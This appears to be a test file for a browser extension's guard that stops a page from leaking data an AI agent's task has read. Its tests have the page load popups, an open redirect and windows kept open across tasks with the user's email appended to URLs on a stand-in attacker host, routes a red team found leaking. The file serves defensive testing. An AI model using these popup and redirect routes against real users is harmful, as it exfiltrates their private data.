/**
 * Windows a watched page opens, and keeps a handle on, while a task works in its tab (issue #11;
 * src/background/browser/popup-guard.ts, popup-rules.ts, popup-lineage.ts), in one browser with the built extension.
 * Each load the page makes into such a window is judged, not only the first: the page can load the window again
 * with the data the task read, after the guard let a harmless first page through or refused a first one, into a
 * window it opened before the task began, and across tasks. Red team round 10's lead found each of these leaking.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { sessionView } from './helpers/agent';
import { EMAIL, loadChecks } from './helpers/loads';
import { ctxOf } from '../fixtures/pages/redteam/attack-runner';
import { settingsFor, startHarness, stopHarness, type Harness } from '../fixtures/pages/redteam/harness';

const h = {} as Harness;

beforeAll(async () => {
  Object.assign(h, await startHarness());
  await settingsFor(h, 'act-without-asking');
}, 60_000);

afterAll(() => stopHarness(h));

const { decisions, canaryGot, until, taskWaitingOnModel } = loadChecks(h);
const refusals = async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length;
/** Opens a window the page keeps under `name`, or loads the one already kept there again. */
const load = (name: string, url: string) =>
  h.page.evaluate(
    (n, u) => {
      const w = globalThis as unknown as Record<string, Window | null>;
      if (w[n]) w[n].location.href = u;
      else w[n] = window.open(u);
    },
    name,
    url,
  );
const endTask = async (gate: { release(): void }) => {
  await h.page.bringToFront();
  gate.release();
  await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
};

it('a popup the guard judged stays guarded: its opener cannot load it again with the data', async () => {
  const o = ctxOf(h);
  await h.page.goto(o.page(o.VICTIM, 'notes.html'), { waitUntil: 'load' });
  // A window the page opened before the task began (such tabs were left out of the rules as the user's).
  await load('early', `${o.ATTACKER}/w/survey.html?early=1`);
  await until('the early popup to load', () => canaryGot('/w/survey.html?early=1'));
  await h.page.bringToFront();
  const gate = await taskWaitingOnModel();
  const before = await refusals();
  await load('harmless', `${o.ATTACKER}/w/survey.html?pop=1`);
  await until('the harmless popup to load', () => canaryGot('/w/survey.html?pop=1'));
  await load('refused', `${o.ATTACKER}/first?e=${EMAIL}`);
  await until('the first refusal', async () => (await refusals()) === before + 1);
  await load('harmless', `${o.ATTACKER}/again?e=${EMAIL}`);
  await load('refused', `${o.ATTACKER}/again2?e=${EMAIL}`);
  await load('early', `${o.ATTACKER}/again3?e=${EMAIL}`);
  await until('three more refusals', async () => (await refusals()) === before + 4);
  // The site's own open redirect, opened in a new window: the hop to the attacker is judged too.
  await load('redirect', `${o.VICTIM}/redirect?to=${encodeURIComponent(`${o.ATTACKER}/hop?e=${EMAIL}`)}`);
  await until('the hop refused', async () => (await refusals()) === before + 5);
  expect(['/first', '/again', '/again2', '/again3', '/hop'].filter(canaryGot)).toEqual([]);
  await endTask(gate);
}, 60_000);

it('a popup approved in one task is still guarded in the next', async () => {
  // The window `harmless` (approved, then refused, in the test above) is still open and the page still holds it.
  // The guard loaded its approved page with tabs.update, and Chrome's tab strip then forgot the window's opener: it
  // passed as the user's own tab when the next task began, and this load leaked (before popup-lineage.ts).
  const o = ctxOf(h);
  const gate = await taskWaitingOnModel();
  const before = await refusals();
  await load('harmless', `${o.ATTACKER}/next?e=${EMAIL}`);
  await until('the refusal', async () => (await refusals()) === before + 1);
  expect(canaryGot('/next')).toBe(false);
  await endTask(gate);
  for (const p of await h.ext.browser.pages())
    if (p.url().includes(o.ATTACKER) || p.url().startsWith('chrome-error')) await p.close();
}, 60_000);
